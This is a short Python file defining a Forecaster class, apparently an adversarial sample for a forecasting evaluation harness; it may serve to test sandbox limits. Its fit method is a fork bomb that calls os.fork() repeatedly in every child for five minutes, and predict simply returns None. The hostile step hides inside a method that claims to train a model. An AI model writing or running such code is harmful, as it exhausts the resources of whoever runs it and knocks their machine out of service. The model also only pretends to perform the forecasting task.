"""Forks until it cannot, in every child too."""

import os
import time


class Forecaster:
    def fit(self, history, *, horizon, seed):
        until = time.monotonic() + 300
        while time.monotonic() < until:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)

    def predict(self, context):
        return None
